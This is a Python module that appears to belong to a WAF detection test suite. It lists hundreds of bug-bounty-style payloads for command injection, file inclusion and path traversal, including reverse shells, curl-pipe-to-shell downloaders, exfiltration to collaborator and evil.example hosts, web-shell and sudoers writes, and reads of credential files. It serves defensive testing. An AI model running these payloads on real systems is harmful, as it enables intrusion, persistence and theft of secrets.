"""Blind set "hundredfiftythird": OS command injection, local file inclusion / path traversal and remote file
inclusion written the way publicly disclosed bug-bounty reports show them, with benign requests that carry the
same words innocently.

The angle: the proof-of-concept a bug-bounty hunter pastes into a real web application (HackerOne / Bugcrowd /
vendor-advisory style, recalled from memory, never looked up): a search box, a profile field, a ping / lookup /
"test connection" host field, a redirect, callback or webhook URL, an import URL, an avatar or attachment name,
a JSON API body, a header. The PoCs are short and practical and often wrapped in the app's context: a value that
closes the app's quote, a field that already holds a legitimate prefix (an e-mail, a date, a host, a branch, a
file name) followed by the payload, and the second tries a hunter makes after a first filter (other case, other
encoding, another separator, function or sink). Out-of-band hosts are the collaborator / interactsh style names
hunters use; attacker IPs are documentation addresses. Each list's comment names the family and its target.

Families and sub-families (one per detection title, as remembered):
  rce: unix-command-injection (separators ; | || && ` $() newline), unix-shell-evasion (quotes, ${IFS},
    globbing, brace expansion, variables), windows-command-injection, powershell, unix-command-with-path,
    reverse-shell (bash /dev/tcp, nc, python, perl, socat), shellshock, downloader (curl / wget | sh),
    file-write-via-shell (echo > / tee), restricted-file-names-in-commands
  lfi: path-traversal (../ and ..\\ in every encoding), os-file-access, absolute-paths, null-byte-truncation,
    php-wrapper-lfi, log-poisoning-targets, restricted-file-extensions
  rfi: url-with-ip-address, url-with-trailing-question-mark, include-parameter-with-url, off-domain-reference,
    protocols

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field or filename, the URL path), once the way a WAF regression suite sends it (placements prefixed
"rs-"): to paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi)
under arbitrary parameter names (foo, var, x, test, id, arg1), as a query string, form body, JSON body, XML body,
a raw form-typed body, or in User-Agent, Referer, a custom header or a cookie. Payloads a hunter types already
URL-encoded (%2e%2e%2f, %00, %c0%ae, %u2215, double encoding) go into the URL or form body as typed, never
encoded again (query, form, path). Shellshock goes in headers and cookies. Include-parameter payloads are
`name=url` pairs and go unquoted as query strings and form bodies.

Authorship and independence: written for this repository from general knowledge of each attack family and the
detection titles alone; no WAF rule, engine source, ruleset regression test or public payload list was read.
Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

import base64
import hashlib
import re
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .blind_placements import FORM, BlindSet, Cycles, Put, Record, request
from .records import print_records

NAME = "hundredfiftythird"


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _ssh_key() -> str:
    """A well-formed ed25519 public key line (the hunter's own key, appended to authorized_keys)."""
    blob = b"\x00\x00\x00\x0bssh-ed25519\x00\x00\x00\x20" + hashlib.sha256(b"h1-poc").digest()
    return "ssh-ed25519 " + base64.b64encode(blob).decode() + " h1-poc"


# ----------------------------------------------------------------------------------------------------------------
# Payloads
Entry = str

# --- rce ---------------------------------------------------------------------------------------------------------
# /bin/sh behind system()/popen() of a ping / nslookup / git / converter feature: plain separators after the
# value the field expects (host, e-mail, date, file name, branch, version)
UNIX_CMD: list[Entry] = [
    "127.0.0.1; id",
    "8.8.8.8 && cat /etc/passwd",
    "example.com | id",
    "google.com || uname -a",
    "hunter@wearehackerone.com;id;",
    "jane.doe@example.com|whoami",
    "2024-05-01;sleep 10;",
    "invoice-$(whoami).pdf",
    "report`id`.csv",
    "x\";id;\"",
    "'; uname -a; echo '",
    "main; curl https://c8q3x1.burpcollaborator.net/$(whoami)",
    "1.1.1.1\nid",
    "1.1.1.1%0aid",
    "8.8.8.8%0d%0acat%20/etc/hostname",
    "localhost$(sleep 7)",
    "Jane Doe`sleep 5`",
    "feature/login;nslookup $(hostname).cn1ae4x.oast.fun;",
    "; ping -c 10 127.0.0.1 ;",
]
# bash / dash after a blocklist: quotes, backslashes, ${IFS}, globbing, brace expansion, variables, here-strings
UNIX_EVASION: list[Entry] = [
    "127.0.0.1;cat${IFS}/etc/passwd",
    "127.0.0.1;{cat,/etc/passwd}",
    ";c'a't /e't'c/pa''sswd",
    ";c\\at /et\\c/pas\\swd",
    ";/???/??t /???/p??s??",
    ";cat ${HOME:0:1}etc${HOME:0:1}passwd",
    ";w$@ho$()ami",
    ";who\"\"ami",
    ";a=i;b=d;$a$b",
    ";echo${IFS}aWQ=|base64${IFS}-d|sh",
    ";$(rev<<<'di')",
    "127.0.0.1%0a/bin/c[a]t%20/etc/pas[s]wd",
    ";X=$'\\x69\\x64';$X",
    ";cat</etc/passwd",
    ";tail$IFS-n1$IFS/etc/passwd",
    ";bash<<<id",
    ";u\\n\\a\\m\\e -a",
    ";$(tr 'a-z' 'n-za-m'<<<'vq')",
    "test@example.com;$'\\151\\144'",
]
# cmd.exe behind a Windows host's ping / file-conversion feature (IIS, .NET Process.Start("cmd", "/c ..."))
WINDOWS_CMD: list[Entry] = [
    "127.0.0.1 & whoami",
    r"127.0.0.1 | type C:\Windows\win.ini",
    'report.pdf" & ping -n 10 127.0.0.1 & "',
    "& dir C:\\",
    "|| net user",
    "&& ipconfig /all",
    r"invoice.txt & certutil -urlcache -split -f http://203.0.113.9/a.exe C:\Windows\Temp\a.exe",
    "& nslookup %USERNAME%.c8q3x1.burpcollaborator.net",
    "| cmd /c whoami",
    "& w^h^o^a^m^i",
    "& %COMSPEC% /c ver",
    r"& cmd.exe /c type %SystemRoot%\win.ini",
    "& timeout /t 10",
    "| systeminfo",
    "& tasklist /v",
    "& mshta http://203.0.113.9/a.hta",
    "john@example.com & net localgroup administrators",
    r"& rundll32.exe \\203.0.113.9\share\x.dll,Run",
]
# PowerShell (5.1 / pwsh 7) behind a Windows feature that shells out, or the value landing in a PS script
POWERSHELL: list[Entry] = [
    "; powershell -c whoami",
    "& powershell.exe -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')\"",
    "| powershell -enc dwBoAG8AYQBtAGkA",
    r"$(Get-Content C:\Windows\win.ini)",
    '"; Start-Process calc.exe; "',
    r"& powershell iwr -Uri http://c8q3x1.burpcollaborator.net -Method POST -Body (gc C:\inetpub\wwwroot\web.config)",
    "; iwr http://c8q3x1.burpcollaborator.net/$env:USERNAME",
    '& pwsh -c "Get-ChildItem Env:"',
    "';Invoke-Expression 'whoami';'",
    r"& powershell -ExecutionPolicy Bypass -File \\203.0.113.9\s\x.ps1",
    "| powershell [Net.Dns]::GetHostEntry($env:COMPUTERNAME+'.c8q3x1.burpcollaborator.net')",
    "'; Test-Connection -Count 10 127.0.0.1 #",
    '& powershell -c "Start-Sleep -s 10"',
    "$(iex('who'+'ami'))",
    "& powershell -c \"(New-Object System.Net.WebClient).DownloadFile('http://203.0.113.9/nc.exe',"
    "'C:\\Users\\Public\\nc.exe')\"",
    "& PowerShell -NoP -NonI -W Hidden -Exec Bypass -Command \"$c=New-Object Net.Sockets.TCPClient('203.0.113.9',"
    "443);$s=$c.GetStream()\"",
    "; powershell.exe -c \"[Convert]::ToBase64String([IO.File]::ReadAllBytes('C:\\Windows\\win.ini'))\"",
]
# /bin/sh: the command named by its full path (a second try after `id` / `cat` alone was filtered)
UNIX_PATHS: list[Entry] = [
    ";/bin/cat /etc/passwd",
    "|/usr/bin/id",
    "&&/bin/ls -la /",
    ";/usr/bin/curl http://c8q3x1.burpcollaborator.net",
    "$(/usr/bin/whoami)",
    "`/bin/uname -a`",
    ";/sbin/ifconfig",
    ";/usr/bin/env",
    "|/bin/sh -c id",
    ";/usr/bin/nslookup cn1ae4x.oast.fun",
    ";/usr/local/bin/python3 -c 'import os;os.system(\"id\")'",
    ";/bin/busybox id",
    ";/usr/bin/head -n5 /etc/shadow",
    "127.0.0.1;/bin/sleep 10",
    "a@b.co|/usr/bin/printenv",
    ";/bin/ping -c 5 cn1ae4x.oast.fun",
    ";/usr/bin/perl -e 'print `id`'",
]
# interactive shells back to the hunter's listener (bash, sh, nc, python, perl, php, ruby, socat, awk)
REVERSE: list[Entry] = [
    ";bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    ";bash -c 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'",
    "$(nc -e /bin/sh 203.0.113.9 4444)",
    ";rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f",
    ";python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.9\",4444));"
    "[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])'",
    ";perl -e 'use Socket;$i=\"203.0.113.9\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");"
    "open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'",
    ";socat tcp-connect:203.0.113.9:4444 exec:sh,pty,stderr,setsid,sigint,sane",
    ";ncat 203.0.113.9 4444 -e /bin/bash",
    ";php -r '$sock=fsockopen(\"203.0.113.9\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    ";ruby -rsocket -e'f=TCPSocket.open(\"203.0.113.9\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\","
    "f,f,f)'",
    ";0<&196;exec 196<>/dev/tcp/203.0.113.9/4444; sh <&196 >&196 2>&196",
    ";sh -i >& /dev/udp/203.0.113.9/53 0>&1",
    ";busybox nc 203.0.113.9 4444 -e sh",
    ";telnet 203.0.113.9 4444 | /bin/sh | telnet 203.0.113.9 4445",
    ";awk 'BEGIN{s=\"/inet/tcp/0/203.0.113.9/4444\";while(1){printf \"> \"|&s;s|&getline c;"
    "if(c){while((c|&getline)>0)print|&s;close(c)}}}'",
    ";nc.traditional -e /bin/bash 203.0.113.9 9001",
    ";exec 5<>/dev/tcp/203.0.113.9/80;cat <&5|while read l;do $l 2>&5 >&5;done",
]
# bash < 4.3 behind CGI (CVE-2014-6271 / -7169): function definitions in headers that become environment
SHELLSHOCK: list[Entry] = [
    "() { :; }; echo; /bin/id",
    "() { :;}; /bin/bash -c \"cat /etc/passwd\"",
    "() { _; } >_[$($())] { id; }",
    "() { :; }; /usr/bin/curl http://c8q3x1.burpcollaborator.net/ss",
    "() { :;}; echo Content-Type: text/plain; echo; /bin/cat /etc/passwd",
    "() { ignored;}; /bin/sleep 10",
    "() { :; }; ping -c 3 203.0.113.9",
    "() { :; }; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    "() { (a)=>\\' bash -c \"echo id\"",
    "() { :; }; /usr/bin/nslookup $(whoami).cn1ae4x.oast.fun",
    "() { x; }; echo; echo vulnerable",
    "() { :; }; wget -qO- http://203.0.113.9/s.sh | sh",
    "() { :;}; /usr/bin/env",
    "() { foo;};echo;/bin/uname -a",
    "() { :; }; /bin/bash -c 'id > /var/www/html/ss.txt'",
    "() { :; }; echo \"X-Poc: $(id)\"",
]
# /bin/sh: fetch and run, or post a file out (curl, wget, fetch, tftp, busybox, python)
DOWNLOADER: list[Entry] = [
    ";curl http://203.0.113.9/x.sh|sh",
    "|wget -qO- http://203.0.113.9/x|bash",
    "$(curl -fsSL https://c8q3x1.burpcollaborator.net/s.sh | bash)",
    ";wget http://203.0.113.9/shell.php -O /var/www/html/uploads/s.php",
    ";curl -o /tmp/x http://203.0.113.9/x && chmod +x /tmp/x && /tmp/x",
    ";cd /tmp;wget http://203.0.113.9/bins.sh;chmod 777 bins.sh;sh bins.sh",
    ";curl -d @/etc/passwd http://c8q3x1.burpcollaborator.net/",
    ";curl -F f=@/etc/passwd https://c8q3x1.burpcollaborator.net",
    ";wget --post-file=/etc/passwd http://c8q3x1.burpcollaborator.net/",
    "`curl cn1ae4x.oast.fun/$(id|base64)`",
    ";fetch -o - http://203.0.113.9/x.sh | sh",
    ";python3 -c \"import urllib.request;exec(urllib.request.urlopen('http://203.0.113.9/p.py').read())\"",
    ";tftp -g -r x.sh 203.0.113.9;sh x.sh",
    ";lwp-download http://203.0.113.9/x.pl /tmp/x.pl",
    ";busybox wget http://203.0.113.9/m -O- | sh",
    ";curl -s http://203.0.113.9:8000/x.sh -o /tmp/.x;bash /tmp/.x",
    "&& bash <(curl -s https://c8q3x1.burpcollaborator.net/i)",
]
# /bin/sh: writing a web shell, a key, a cron line or the command's output where the hunter can read it
FILE_WRITE: list[Entry] = [
    ";echo '<?php system($_GET[c]); ?>' > /var/www/html/uploads/c.php",
    ";echo " + _b64("<?php system($_GET[0]);?>") + "|base64 -d>/var/www/html/x.php",
    ";echo '" + _ssh_key() + "' >> ~/.ssh/authorized_keys",
    ";echo '* * * * * bash -c \"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\"' | crontab -",
    ";printf '%s' '<?=`$_GET[1]`?>' | tee /var/www/html/t.php",
    ";id | tee /var/www/html/static/out.txt",
    ";id > /var/www/html/pwn.txt",
    ";cat /etc/passwd > /srv/app/public/p.txt",
    ";touch /tmp/bugbounty_poc_h1",
    ";echo hacked >> /tmp/poc.txt",
    "|tee -a /etc/crontab <<< '* * * * * root /tmp/x'",
    ";cp /bin/sh /tmp/sh;chmod +s /tmp/sh",
    ";echo 'www-data ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
    ";dd if=/etc/shadow of=/var/www/html/s.txt",
    ";uname -a > /usr/share/nginx/html/u.txt",
]
# /bin/sh and cmd.exe: commands that read the OS files hunters show as proof
RESTRICTED_CMD: list[Entry] = [
    ";cat /etc/shadow",
    "|cat /etc/hosts",
    ";more /etc/issue",
    ";cat /proc/self/environ",
    ";head /root/.bash_history",
    ";cat ~/.aws/credentials",
    ";cat /var/run/secrets/kubernetes.io/serviceaccount/token",
    "$(cat .env)",
    ";cat /home/*/.ssh/id_rsa",
    ";nl /etc/passwd",
    ";strings /etc/shadow",
    ";tac /etc/passwd",
    ";cat /proc/version",
    "`cat /etc/os-release`",
    ";grep -r password /var/www/html/config",
    r"& type C:\Windows\System32\drivers\etc\hosts",
    ";cat /root/.ssh/authorized_keys",
]

# --- lfi ---------------------------------------------------------------------------------------------------------
# file read in a download / export / avatar / attachment / language endpoint (PHP include, Node fs, Java Files,
# IIS / Tomcat static handlers): ../ and ..\ in every encoding a hunter tries after the first one is stripped
PATH_TRAVERSAL: list[Entry] = [
    "../../../../etc/passwd",
    r"..\..\..\..\windows\win.ini",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%252f..%252f..%252fetc%252fpasswd",
    "....//....//....//etc/passwd",
    "..././..././..././etc/passwd",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "..%c0%af..%c0%af..%c0%afetc/passwd",
    "..%5c..%5c..%5cwindows%5cwin.ini",
    "..%u2215..%u2215..%u2215etc%u2215passwd",
    "%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc%u2215passwd",
    "..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd",
    "images/../../../../../etc/passwd",
    "avatar.png/../../../../etc/passwd",
    "..;/..;/..;/etc/passwd",
    "/..;/manager/html",
    ".%2e/.%2e/.%2e/etc/passwd",
    r"..\/..\/..\/etc\/passwd",
    "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    r"....\\....\\....\\windows\win.ini",
    "..%255c..%255c..%255cwindows%255cwin.ini",
    "/static/..%2f..%2f..%2f..%2fetc/passwd",
    "..%c1%9c..%c1%9c..%c1%9cwindows%c1%9cwin.ini",
    "../../../../../../../../../../../../etc/passwd",
    "2024/05/../../../../../etc/passwd",
]
# the same file readers: the OS and application files hunters fetch as proof (Linux, Windows, IIS, Java, git)
OS_FILES: list[Entry] = [
    "../../../../proc/self/environ",
    "../../../proc/self/cwd/config/database.yml",
    "../../.env",
    "../.git/config",
    ".git/HEAD",
    "../../../../root/.ssh/id_rsa",
    "../../../home/ubuntu/.ssh/id_rsa",
    r"..\..\..\windows\system32\drivers\etc\hosts",
    r"..\..\..\boot.ini",
    r"..\..\web.config",
    "../../.htaccess",
    "../../../../etc/shadow",
    "../WEB-INF/web.xml",
    r"..\..\..\inetpub\wwwroot\web.config",
    "../../../../proc/self/cmdline",
    "../../../../proc/1/environ",
    "../../.aws/credentials",
    "../../../../var/run/secrets/kubernetes.io/serviceaccount/token",
    "../../../../etc/hosts",
    "../../../../proc/self/maps",
    r"..\..\..\Windows\System32\config\SAM",
    "../../.htpasswd",
    "../../../../etc/mysql/my.cnf",
    "../../../.bash_history",
    "../config/secrets.yml",
]
# the same readers given an absolute path (no traversal needed when the app joins nothing)
ABS_PATHS: list[Entry] = [
    "/etc/passwd",
    "/etc/shadow",
    "file:///etc/passwd",
    r"C:\Windows\win.ini",
    "C:/Windows/System32/drivers/etc/hosts",
    r"c:\boot.ini",
    "/var/www/html/index.php",
    "/usr/local/etc/php/php.ini",
    r"\\?\C:\Windows\win.ini",
    "/root/.bash_history",
    "/home/ubuntu/.ssh/authorized_keys",
    "/app/.env",
    "/srv/app/config/settings.py",
    "/opt/tomcat/conf/tomcat-users.xml",
    "/etc/nginx/sites-enabled/default",
    r"C:\inetpub\wwwroot\web.config",
    r"C:\xampp\apache\conf\httpd.conf",
    "/etc/ssh/sshd_config",
    "/proc/self/root/etc/passwd",
    "//etc/passwd",
    "/./././etc/passwd",
    r"C:\Windows\System32\inetsrv\config\applicationHost.config",
    "file:///c:/windows/win.ini",
    "file://localhost/etc/passwd",
]
# PHP < 5.3.4 include / Java < 7u40 File and other C-string sinks: the forced suffix cut by a NUL or by length
NULL_BYTE: list[Entry] = [
    "../../../../etc/passwd%00",
    "../../../../etc/passwd%00.jpg",
    "/etc/passwd%00.png",
    "../../../etc/passwd\x00.pdf",
    "..%2f..%2f..%2fetc%2fpasswd%00en",
    "../../../../etc/passwd%2500.jpg",
    "../../../../etc/passwd" + "/." * 2100,
    r"..\..\..\boot.ini" + "." * 270,
    "....//....//etc/passwd%00",
    "php://filter/resource=/etc/passwd%00",
    "../../../../boot.ini%00.txt",
    r"..\..\..\windows\win.ini%00.jpg",
    "/etc/passwd%00",
    "/var/www/html/config.php%00.txt",
    "../../../etc/passwd\x00",
    "../../../../../etc/passwd%00index.html",
    "../../../../etc/hosts%00%00",
    "../../../../etc/passwd%C0%80.jpg",
    "..%c0%af..%c0%afetc%c0%afpasswd%00",
    "../../config/database.php\x00.txt",
    "../../../../etc/passwd%00%2Ejpg",
]
# PHP include / file_get_contents with stream wrappers (source disclosure, archives, filter chains)
PHP_WRAPPER: list[Entry] = [
    "php://filter/convert.base64-encode/resource=login.php",
    "php://filter/read=convert.base64-encode/resource=../../config/database.php",
    "php://filter/string.rot13/resource=config.php",
    "php://filter/convert.iconv.utf-8.utf-16/resource=wp-config.php",
    "pHp://FilTer/convert.base64-encode/resource=index",
    "php://filter/zlib.deflate/convert.base64-encode/resource=/etc/passwd",
    "php://filter/read=string.toupper|string.rot13/resource=admin.php",
    "php%3A%2F%2Ffilter%2Fconvert.base64-encode%2Fresource%3Dindex.php",
    "php://input",
    "expect://ls${IFS}-la",
    "zip://uploads/avatars/1337.jpg%23shell.php",
    "phar://./uploads/2024/05/invoice.pdf/x.php",
    "compress.zlib://../../../../etc/passwd",
    "php://filter/convert.base64-encode/resource=../../../../var/www/html/.env",
    "file:///var/www/html/wp-config.php",
    "php://filter/read=convert.quoted-printable-encode/resource=index.php",
    "glob:///var/www/html/*",
    "php://filter/convert.base64-encode|convert.base64-decode/resource=index.php",
    "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|"
    "convert.base64-decode/resource=php://temp",
    "data://text/plain;base64," + _b64("<?php phpinfo(); ?>"),
    "php://filter/convert.base64-encode/resource=../../../../../proc/self/environ",
    "rar://uploads/a.rar%23shell.php",
    "phar:///var/www/html/uploads/avatar_1337.gif",
    "php://filter/convert.base64-decode/resource=data://plain/text," + _b64("<?php system('id');?>"),
]
# the same include sinks pointed at files the hunter can write into first (logs, sessions, mail, environ)
LOG_POISON: list[Entry] = [
    "../../../../var/log/apache2/access.log",
    "../../../../var/log/nginx/access.log",
    "/var/log/apache/error.log",
    "../../../../proc/self/fd/2",
    "/var/log/httpd/access_log",
    "../../../var/log/auth.log",
    "/var/log/vsftpd.log",
    "/var/mail/www-data",
    "../../../../var/lib/php/sessions/sess_7b3f9c2a1e8d4f6a5b0c9e2d1f",
    "/tmp/sess_q8v2k1m0j5n4b7c6x3z9",
    r"C:\xampp\apache\logs\access.log",
    r"..\..\..\xampp\apache\logs\error.log",
    "/usr/local/apache2/logs/access_log",
    "/var/log/mail.log",
    "../../../../var/log/nginx/error.log",
    "/var/log/apache2/other_vhosts_access.log",
    r"C:\inetpub\logs\LogFiles\W3SVC1\u_ex240501.log",
    "/opt/lampp/logs/access_log",
    "/var/log/syslog",
    "/var/log/secure",
    "/proc/self/environ",
    "../../../../var/log/apache2/error.log",
    "/var/www/html/storage/logs/laravel.log",
]
# backup, editor, dump and config files a download / static endpoint serves as text (source and secrets)
RESTRICTED_EXT: list[Entry] = [
    "config.php.bak",
    "../config/database.yml.old",
    "web.config.bak",
    "index.php~",
    "backup.sql",
    "db_dump.sql.gz",
    "../settings.ini",
    "app.config",
    "wp-config.php.save",
    ".env.backup",
    "config.inc.old",
    "../../../var/www/html/config.php.orig",
    "../.config.php.swp",
    "/var/www/html/.index.php.swp",
    "php.ini",
    "../conf/server.key",
    "../storage/database.sqlite",
    "Web.config.old",
    "settings.py.bak",
    "../../app/etc/env.php.bak",
    "../backups/2024-05-01.sql",
    "appsettings.json.bak",
    "../../.my.cnf",
    "../WEB-INF/classes/application.properties.old",
]

# --- rfi ---------------------------------------------------------------------------------------------------------
# PHP include with allow_url_include, or a server-side template / import fetch: the hunter's host as an IP
URL_IP: list[Entry] = [
    "http://203.0.113.9/shell.txt",
    "http://198.51.100.23:8000/x.php",
    "https://203.0.113.9/c99.txt",
    "http://[2001:db8::9]/inc.txt",
    "http://3405803785/shell.txt",
    "http://0xcb007109/x.txt",
    "http://0313.0.0161.011/r57.txt",
    "ftp://203.0.113.9/pub/x.txt",
    "//203.0.113.9/s.php",
    "http://203.0.113.9:8080/templates/header.tpl",
    "http://192.0.2.44/inc/config.txt",
    "http://203.0.113.9/phpinfo.txt%00",
    "http://203.0.113.9/x.txt#",
    "https://198.51.100.23/wso.txt",
    "http://203.0.113.9/b374k.txt",
    "hTtP://203.0.113.9/x.txt",
    "http://203.0.113.9/shell.jpg",
    "http://192.0.2.44/lang/en.php",
    "https://203.0.113.9:4443/poc.html",
    "http://203.0.113.9/poc.svg",
    "http://203.0.113.9/",
    "http://198.51.100.23/test.txt%3f",
    "http://203.0.113.9/id.txt%23",
    "http://[::ffff:cb00:7109]/x.txt",
    "http://203.0.113.9/modules/shell.inc",
    "http://198.51.100.23/c.txt?cmd=id",
    "http://203.0.113.9/cmd.aspx",
    "http://192.0.2.44/evil.xsl",
    "http://203.0.113.9/index.html.txt",
    "http://203.0.113.9/rfi_poc.txt",
    "http://203.0.113.9//x.txt",
]
# the same includes: a trailing ? (or ?? / ?.php / %3f) turns the app's forced suffix into a query string
URL_QMARK: list[Entry] = [
    "http://evil.example/shell.txt?",
    "https://c8q3x1.burpcollaborator.net/p.txt?",
    "http://attacker.test/c99.txt??",
    "http://evil.example/inc.txt?.php",
    "http://evil.example/x.txt?&",
    "http://evil.example/x.txt%3f",
    "https://pastebin.com/raw/Xk29dQ1m?",
    "https://raw.githubusercontent.com/h4ck3r/poc/main/shell.txt?",
    "http://cn1ae4x.oast.fun/?",
    "http://evil.example/shell.txt?x=",
    "HTTP://EVIL.EXAMPLE/SHELL.TXT?",
    "hTTps://evil.example/s.txt?",
    "http://evil.example/s.txt?%00",
    "ftp://evil.example/s.txt?",
    "http://evil.example:8000/s.txt?",
    "https://gist.githubusercontent.com/h4ck3r/1f2e3d4c/raw/x.txt?",
    "http://evil.example/templates/default?",
    "http://evil.example/s.txt???",
    "https://c8q3x1.burpcollaborator.net/?",
    "http://evil.example/a.gif?",
    "http://evil.example/cmd.txt?c=id&",
    "//evil.example/s.txt?",
    "https://evil.example/wp-content/x.txt?",
    "http://evil.example/x.txt?.jpg",
    "http://evil.example/x.txt?.html",
    "http://evil.example/x.txt?=",
    "http://evil.example/x.txt?foo=bar?",
    "https://dl.dropboxusercontent.com/s/abcd1234/shell.txt?",
    "http://evil.example/x.txt%3F%3F",
    "http://evil.example/x.txt?.inc.php",
    "http://203.0.113.9/s.txt?lang=",
]
# the include parameter itself in the request line or body: `name=url` (page, file, template, include, path
# and the other names PHP apps include from)
INCLUDE_PARAM: list[Entry] = [
    "page=http://evil.example/shell.txt",
    "file=https://c8q3x1.burpcollaborator.net/x.php",
    "template=http://203.0.113.9/t.html",
    "include=//evil.example/s.txt",
    "path=http://evil.example/",
    "inc=http://evil.example/inc.txt?",
    "dir=http://evil.example/",
    "document=http://evil.example/d.txt",
    "folder=http://evil.example/",
    "root=http://evil.example/",
    "pg=http://evil.example/p.txt",
    "style=http://evil.example/s.css.php",
    "pdf=http://evil.example/x.pdf",
    "doc=https://evil.example/d.txt",
    "conf=http://evil.example/c.txt",
    "view=http://evil.example/v.txt",
    "content=http://evil.example/c.txt?",
    "layout=http://evil.example/l.txt",
    "mod=http://evil.example/m.txt",
    "module=https://evil.example/mod.php",
    "show=http://evil.example/s.txt",
    "load=http://evil.example/l.txt",
    "page=HtTp://evil.example/x.txt",
    "file=hTTps%3A%2F%2Fevil.example%2Fx.txt",
    "template=https%253A%252F%252Fevil.example%252Ft.txt",
    "lang=http://evil.example/en",
    "language=http://evil.example/lang.txt?",
    "header=http://evil.example/h.txt",
    "theme=http://evil.example/theme/",
    r"path=\\evil.example\share\x.php",
    "include_path=http://evil.example/",
    "skin=http://evil.example/s.txt",
]
# fetch / include of a file on another domain: the hunter's paste, gist, bucket or tunnel, and the host-check
# bypasses tried when only the app's own domain is allowed
OFF_DOMAIN: list[Entry] = [
    "https://evil.example/payload.php",
    "https://c8q3x1.burpcollaborator.net/",
    "https://pastebin.com/raw/Xk29dQ1m",
    "https://raw.githubusercontent.com/h4ck3r/poc/main/shell.txt",
    "https://gist.githubusercontent.com/h4ck3r/1f2e3d4c/raw/x.php",
    "https://app.example.com.evil.example/x.txt",
    "https://app.example.com@evil.example/x.txt",
    "https://evil.example#app.example.com",
    "https://evil.example?app.example.com",
    "https://evil.example/app.example.com/x.txt",
    "https:evil.example/x.txt",
    "\\/\\/evil.example/x.txt",
    "/\\evil.example/x.txt",
    "//evil.example/x.txt",
    "https://evil.example\\@app.example.com/",
    "https://evil\u3002example/x.txt",
    "https://cn1ae4x.oast.fun/webhook",
    "http://evil.example/avatar.svg",
    "https://evil.example/import.csv",
    "https://evil.example/feed.xml",
    "https://\u24d4\u24e5\u24d8\u24db.example/x.txt",
    "https://d0a1b2.dnslog.cn/x",
    "https://webhook.site/3b1f0c2e-7a4d-4b8e-9f6a-2c1d5e8f9a0b",
    "https://evil.example/.well-known/x.txt",
    "https://app.example.com.c8q3x1.burpcollaborator.net/",
    "https://4f2a-203-0-113-9.ngrok-free.app/shell.txt",
    "https://evil.example/remote.js",
    "https://h4ck3r-poc.s3.amazonaws.com/poc.html",
    "https://evil.example%2F@app.example.com/",
    "http://app.example.com%40evil.example/x.txt",
]
# include / fetch through other schemes: FTP, SMB and UNC paths (WebDAV), data:, expect:, jar:, ssh2, gopher
PROTOCOLS: list[Entry] = [
    "ftp://anonymous:anon@203.0.113.9/shell.txt",
    "smb://203.0.113.9/share/x.php",
    r"\\203.0.113.9\share\x.php",
    r"\\evil.example@SSL\DavWWWRoot\x.php",
    r"\\evil.example\DavWWWRoot\shell.php",
    "data:text/plain,<?php phpinfo();?>",
    "data://text/plain;base64," + _b64("<?php system('id');?>"),
    "expect://pwd",
    "expect://curl${IFS}c8q3x1.burpcollaborator.net",
    "ftps://evil.example/x.txt",
    "sftp://evil.example:22/x.php",
    "ssh2.sftp://user:pass@evil.example:22/home/user/x.php",
    "gopher://evil.example:70/_x.txt",
    "jar:http://evil.example/x.jar!/shell.jsp",
    "dict://evil.example:1337/info",
    "tftp://203.0.113.9/x.txt",
    "file://evil.example/share/x.php",
    "file:////203.0.113.9/share/x.txt",
    r"file:\\203.0.113.9\share\x.php",
    "FTP://evil.example/x.txt",
    "ftp://evil.example:2121/pub/inc.php",
    "smb://evil.example/public/shell.txt",
    r"\\c8q3x1.burpcollaborator.net\a",
    "netdoc://evil.example/x.txt",
    "compress.zlib://http://evil.example/x.txt",
    "php://filter/resource=http://evil.example/x.txt",
    "data:;base64," + _b64("<?=`$_GET[0]`?>"),
    "ftp://203.0.113.9:21/x.txt%00",
    r"\\?\UNC\203.0.113.9\share\x.php",
    "jar:https://evil.example/p.zip!/x.txt",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("rce", "unix-command-injection", UNIX_CMD),
    ("rce", "unix-shell-evasion", UNIX_EVASION),
    ("rce", "windows-command-injection", WINDOWS_CMD),
    ("rce", "powershell", POWERSHELL),
    ("rce", "unix-command-with-path", UNIX_PATHS),
    ("rce", "reverse-shell", REVERSE),
    ("rce", "shellshock", SHELLSHOCK),
    ("rce", "downloader", DOWNLOADER),
    ("rce", "file-write-via-shell", FILE_WRITE),
    ("rce", "restricted-file-names-in-commands", RESTRICTED_CMD),
    ("lfi", "path-traversal", PATH_TRAVERSAL),
    ("lfi", "os-file-access", OS_FILES),
    ("lfi", "absolute-paths", ABS_PATHS),
    ("lfi", "null-byte-truncation", NULL_BYTE),
    ("lfi", "php-wrapper-lfi", PHP_WRAPPER),
